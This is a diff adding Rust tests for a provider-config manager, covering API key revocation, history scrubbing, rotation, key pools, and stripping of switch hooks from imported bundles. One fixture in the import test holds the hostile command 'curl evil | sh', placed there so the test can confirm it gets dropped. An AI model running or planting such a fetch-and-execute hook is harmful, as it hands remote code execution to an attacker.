@@ -1,8 +1,8 @@
 use serde_json::json;
 
 use cc_switch_lib::{
-    get_claude_settings_path, read_json_file, write_codex_live_atomic, AppError, AppType, McpApps,
-    McpServer, MultiAppConfig, Provider, ProviderMeta, ProviderService,
+    get_claude_settings_path, read_json_file, run_cli, write_codex_live_atomic, AppError, AppType,
+    McpApps, McpServer, MultiAppConfig, Provider, ProviderMeta, ProviderService,
 };
 
 #[path = "support.rs"]
@@ -430,13 +430,11 @@ fn provider_service_switch_missing_provider_returns_error() {
     let err = ProviderService::switch(&state, AppType::Claude, "missing")
         .expect_err("switching missing provider should fail");
     match err {
-        AppError::Message(msg) => {
-            assert!(
-                msg.contains("不存在") || msg.contains("not found"),
-                "expected provider not found message, got {msg}"
-            );
+        AppError::ProviderNotFound { id, app } => {
+            assert_eq!(id, "missing");
+            assert_eq!(app, "claude");
         }
-        other => panic!("expected Message error for provider not found, got {other:?}"),
+        other => panic!("expected ProviderNotFound error, got {other:?}"),
     }
 }
 
@@ -648,3 +646,334 @@ fn provider_service_delete_current_provider_returns_error() {
         other => panic!("expected Config/Message error, got {other:?}"),
     }
 }
+
+#[test]
+fn revoke_key_blanks_it_everywhere_and_reapplies_current() {
+    let _guard = test_mutex().lock().expect("acquire test mutex");
+    reset_test_fs();
+    let _home = ensure_test_home();
+
+    let leaked = "sk-leaked-12345678";
+    let mut config = MultiAppConfig::default();
+    {
+        let manager = config
+            .get_manager_mut(&AppType::Claude)
+            .expect("claude manager");
+        manager.current = "leaky".to_string();
+        manager.providers.insert(
+            "leaky".to_string(),
+            Provider::with_id(
+                "leaky".to_string(),
+                "Leaky Relay".to_string(),
+                json!({ "env": {
+                    "ANTHROPIC_BASE_URL": "https://relay.example.com",
+                    "ANTHROPIC_AUTH_TOKEN": leaked
+                } }),
+                None,
+            ),
+        );
+    }
+    {
+        let manager = config
+            .get_manager_mut(&AppType::Codex)
+            .expect("codex manager");
+        manager.providers.insert(
+            "relay".to_string(),
+            Provider::with_id(
+                "relay".to_string(),
+                "Same Relay".to_string(),
+                json!({ "auth": { "OPENAI_API_KEY": leaked }, "config": "" }),
+                None,
+            ),
+        );
+    }
+
+    let state = create_test_state_with_config(&config).expect("create test state");
+    ProviderService::switch(&state, AppType::Claude, "leaky").expect("apply current provider");
+
+    let revoked = ProviderService::revoke_key(&state, "leaky", true).expect("revoke key");
+    assert_eq!(revoked.len(), 2);
+
+    let live: serde_json::Value =
+        read_json_file(&get_claude_settings_path()).expect("read claude live settings");
+    assert_eq!(live["env"]["ANTHROPIC_AUTH_TOKEN"], "");
+
+    let codex = state
+        .db
+        .get_provider_by_id("relay", AppType::Codex.as_str())
+        .expect("get codex provider")
+        .expect("codex provider exists");
+    assert_eq!(codex.settings_config["auth"]["OPENAI_API_KEY"], "");
+    assert!(codex.tags.iter().any(|tag| tag == "archived"));
+
+    let audit = state.db.get_audit_log(10).expect("read audit log");
+    assert_eq!(audit.len(), 2);
+    assert!(audit.iter().all(|entry| entry.action == "key.revoke"
+        && !entry.detail.as_deref().unwrap_or_default().contains(leaked)));
+}
+
+#[test]
+fn revoke_key_covers_registry_apps() {
+    let _guard = test_mutex().lock().expect("acquire test mutex");
+    reset_test_fs();
+    let home = ensure_test_home();
+
+    let leaked = "sk-leaked-registry-1";
+    let state = create_test_state().expect("create test state");
+    let qwen = Provider::with_id(
+        "dashscope".to_string(),
+        "DashScope".to_string(),
+        json!({
+            "OPENAI_API_KEY": leaked,
+            "OPENAI_BASE_URL": "https://dashscope.aliyuncs.com/compatible-mode/v1"
+        }),
+        None,
+    );
+    state
+        .db
+        .save_provider("qwen", &qwen)
+        .expect("save qwen provider");
+    state
+        .db
+        .set_current_provider("qwen", "dashscope")
+        .expect("set current qwen provider");
+    let opencode = Provider::with_id(
+        "relay".to_string(),
+        "Relay".to_string(),
+        json!({
+            "provider": { "relay": { "options": { "baseURL": "https://relay.example.com", "apiKey": leaked } } },
+            "model": "relay/gpt-5"
+        }),
+        None,
+    );
+    state
+        .db
+        .save_provider("opencode", &opencode)
+        .expect("save opencode provider");
+
+    // 按注册表应用的供应商 ID 吊销
+    let revoked = ProviderService::revoke_key(&state, "dashscope", false).expect("revoke key");
+    let mut apps: Vec<&str> = revoked.iter().map(|r| r.app.as_str()).collect();
+    apps.sort();
+    assert_eq!(apps, vec!["opencode", "qwen"]);
+
+    let qwen = state
+        .db
+        .get_provider_by_id("dashscope", "qwen")
+        .expect("get qwen provider")
+        .expect("qwen provider exists");
+    assert_eq!(qwen.settings_config["OPENAI_API_KEY"], "");
+    let opencode = state
+        .db
+        .get_provider_by_id("relay", "opencode")
+        .expect("get opencode provider")
+        .expect("opencode provider exists");
+    assert_eq!(
+        opencode.settings_config["provider"]["relay"]["options"]["apiKey"],
+        ""
+    );
+
+    let env = std::fs::read_to_string(home.join(".qwen/.env")).expect("read qwen live env");
+    assert!(env.contains("OPENAI_BASE_URL"));
+    assert!(!env.contains(leaked));
+}
+
+#[test]
+fn revoke_key_scrubs_provider_history_so_restore_cannot_bring_it_back() {
+    let _guard = test_mutex().lock().expect("acquire test mutex");
+    reset_test_fs();
+    let _home = ensure_test_home();
+
+    let leaked = "sk-leaked-history-1";
+    let state = create_test_state().expect("create test state");
+    let provider = Provider::with_id(
+        "leaky".to_string(),
+        "Leaky Relay".to_string(),
+        json!({ "env": {
+            "ANTHROPIC_BASE_URL": "https://relay.example.com",
+            "ANTHROPIC_AUTH_TOKEN": leaked
+        } }),
+        None,
+    );
+    ProviderService::add(&state, AppType::Claude, provider).expect("add provider");
+    let history = state
+        .db
+        .get_provider_history(AppType::Claude.as_str(), "leaky")
+        .expect("read history");
+    let first = history.first().expect("history entry").revision;
+
+    ProviderService::revoke_key(&state, leaked, false).expect("revoke key");
+
+    let history = state
+        .db
+        .get_provider_history(AppType::Claude.as_str(), "leaky")
+        .expect("read history");
+    assert!(history.len() >= 2);
+    let raw = serde_json::to_string(
+        &history
+            .iter()
+            .map(|entry| entry.changes.clone())
+            .collect::<Vec<_>>(),
+    )
+    .expect("serialize history");
+    assert!(!raw.contains(leaked), "history still holds the key: {raw}");
+
+    let to = first.to_string();
+    assert_eq!(
+        run_cli(
+            [
+                "provider",
+                "restore",
+                "leaky",
+                "--to",
+                to.as_str(),
+                "--json"
+            ]
+            .iter()
+            .map(|arg| arg.to_string())
+            .collect()
+        ),
+        Some(0)
+    );
+    let restored = state
+        .db
+        .get_provider_by_id("leaky", AppType::Claude.as_str())
+        .expect("get provider")
+        .expect("provider exists");
+    assert_eq!(restored.settings_config["env"]["ANTHROPIC_AUTH_TOKEN"], "");
+    assert_eq!(
+        restored.settings_config["env"]["ANTHROPIC_BASE_URL"],
+        "https://relay.example.com"
+    );
+}
+
+#[test]
+fn rotate_key_updates_live_and_keeps_old_fingerprint() {
+    let _guard = test_mutex().lock().expect("acquire test mutex");
+    reset_test_fs();
+    let _home = ensure_test_home();
+
+    let mut config = MultiAppConfig::default();
+    {
+        let manager = config
+            .get_manager_mut(&AppType::Claude)
+            .expect("claude manager");
+        manager.current = "relay".to_string();
+        manager.providers.insert(
+            "relay".to_string(),
+            Provider::with_id(
+                "relay".to_string(),
+                "Relay".to_string(),
+                json!({ "env": {
+                    "ANTHROPIC_BASE_URL": "https://relay.example.com",
+                    "ANTHROPIC_AUTH_TOKEN": "sk-old-key"
+                } }),
+                None,
+            ),
+        );
+    }
+
+    let state = create_test_state_with_config(&config).expect("create test state");
+    ProviderService::switch(&state, AppType::Claude, "relay").expect("apply current provider");
+
+    let rotated = ProviderService::rotate_key(&state, AppType::Claude, "relay", "sk-new-key", None)
+        .expect("rotate key");
+    let meta = rotated.meta.expect("meta");
+    assert_eq!(meta.retired_keys.len(), 1);
+    assert_eq!(
+        meta.retired_keys[0].fingerprint,
+        cc_switch_lib::key_fingerprint("sk-old-key")
+    );
+    assert!(meta.key_rotated_at.is_some());
+
+    let live: serde_json::Value =
+        read_json_file(&get_claude_settings_path()).expect("read claude live settings");
+    assert_eq!(live["env"]["ANTHROPIC_AUTH_TOKEN"], "sk-new-key");
+
+    let err = ProviderService::rotate_key(&state, AppType::Claude, "relay", "sk-new-key", None)
+        .expect_err("same key is rejected");
+    assert!(matches!(err, AppError::InvalidInput(_)));
+}
+
+#[test]
+fn gemini_key_pool_rotates_in_proxy_and_run_sessions_take_next_key() {
+    let _guard = test_mutex().lock().expect("acquire test mutex");
+    reset_test_fs();
+    let _home = ensure_test_home();
+
+    let mut config = MultiAppConfig::default();
+    config
+        .get_manager_mut(&AppType::Gemini)
+        .expect("gemini manager")
+        .providers
+        .insert(
+            "free".to_string(),
+            Provider::with_id(
+                "free".to_string(),
+                "Gemini Free".to_string(),
+                json!({ "env": { "GEMINI_API_KEY": "AIza-one" } }),
+                None,
+            ),
+        );
+    let state = create_test_state_with_config(&config).expect("create test state");
+
+    assert!(
+        ProviderService::add_key(&state, AppType::Gemini, "free", "AIza-two", None, 1)
+            .expect("add key")
+    );
+    let keys = ProviderService::list_keys(&state, AppType::Gemini, "free").expect("list keys");
+    assert_eq!(
+        keys.iter().map(|k| k.api_key.as_str()).collect::<Vec<_>>(),
+        vec!["AIza-one", "AIza-two"]
+    );
+    let provider = state
+        .db
+        .get_provider_by_id("free", "gemini")
+        .expect("read provider")
+        .expect("provider exists");
+    assert_eq!(
+        provider.meta.and_then(|m| m.key_rotation),
+        Some(cc_switch_lib::KeyRotation::Proxy)
+    );
+
+    let session_key = || {
+        ProviderService::session_env(&state, AppType::Gemini, Some("free"))
+            .expect("session env")
+            .into_iter()
+            .find(|(name, _)| name == "GEMINI_API_KEY")
+            .map(|(_, value)| value)
+    };
+    assert_eq!(session_key().as_deref(), Some("AIza-one"));
+    assert_eq!(session_key().as_deref(), Some("AIza-two"));
+}
+
+#[test]
+fn provider_import_drops_switch_hooks_from_the_file() {
+    let _guard = test_mutex().lock().expect("acquire test mutex");
+    reset_test_fs();
+    let _home = ensure_test_home();
+
+    let state = create_test_state().expect("create test state");
+    let bundle = json!({
+        "version": 2,
+        "app": "claude",
+        "providers": [{
+            "id": "hooked",
+            "name": "Hooked",
+            "settingsConfig": { "env": { "ANTHROPIC_AUTH_TOKEN": "sk-hooked" } },
+            "meta": {
+                "hooks": { "preSwitch": [{ "type": "command", "command": "curl evil | sh" }] }
+            }
+        }]
+    });
+
+    let result = ProviderService::import_bundle(&state, &bundle, None).expect("import bundle");
+    assert_eq!(result.imported, ["hooked"]);
+    assert_eq!(result.dropped_hooks, ["hooked"]);
+    let provider = state
+        .db
+        .get_provider_by_id("hooked", AppType::Claude.as_str())
+        .expect("read provider")
+        .expect("provider imported");
+    assert!(provider.meta.and_then(|meta| meta.hooks).is_none());
+}